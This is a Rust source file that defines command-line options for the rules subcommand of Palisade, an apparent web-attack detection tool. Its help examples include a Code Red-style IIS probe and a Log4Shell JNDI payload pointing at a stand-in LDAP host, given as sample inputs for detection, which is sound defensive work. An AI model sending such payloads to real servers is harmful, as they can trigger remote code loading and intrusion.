//! The command line's part about rules: what recognises an attempt.

use clap::{Args, Subcommand, ValueHint};
use std::path::PathBuf;

/// Which rules, and how to print.
#[derive(Debug, Args)]
pub(crate) struct Which {
    /// Read rules from this file, or the files of this directory, too: CrowdSec's virtual patches and scenarios, Sigma,
    /// fail2ban's filters; may be given many times
    #[arg(long, global = true, value_name = "PATH", value_hint = ValueHint::AnyPath)]
    pub(crate) rules: Vec<PathBuf>,

    /// Leave out the rules that Palisade brings along
    #[arg(long, global = true, requires = "rules")]
    pub(crate) without_own: bool,

    /// Print JSON
    #[arg(long, global = true)]
    pub(crate) json: bool,
}

/// A request, as far as a line does not say it.
#[derive(Debug, Args)]
pub(crate) struct Asked {
    /// The request line, as a log has it
    pub(crate) line: String,
    /// A header; may be given many times
    #[arg(long, short = 'H', value_name = "NAME: VALUE")]
    pub(crate) header: Vec<String>,
    /// The body
    #[arg(long, value_name = "TEXT")]
    pub(crate) body: Option<String>,
    /// What was answered
    #[arg(long, value_name = "CODE")]
    pub(crate) status: Option<u16>,
}

#[derive(Debug, Subcommand)]
#[command(after_help = "\
Exit codes: 0 all is well; 1 an example went wrong, a rule could not be read, or nothing recognises
the request; 64 the command line is wrong; 70 it failed

Examples:
  palisade rules list
  palisade rules list --rules hub/appsec-rules --json
  palisade rules show codered1
  palisade rules test                            every rule's own examples
  palisade rules test --rules mine.yaml --without-own
  palisade rules patterns | rg -a -f - access.log
  palisade rules explain 'GET /default.ida?NNNNNNNN%u9090 HTTP/1.0'
  palisade rules explain 'GET / HTTP/1.1' -H 'User-Agent: ${jndi:ldap://192.0.2.9/a}'")]
pub(crate) enum RulesCommand {
    /// List the rules there are
    List,
    /// Show one rule
    Show {
        /// Its id
        id: String,
    },
    /// Hold each rule against the examples in its file
    Test,
    /// Print what a census looks for in raw lines before it judges any: regular expressions over bytes, one a line, as
    /// ripgrep's -f takes them
    Patterns,
    /// Tell which rules recognise a request, and by what
    Explain(Asked),
}
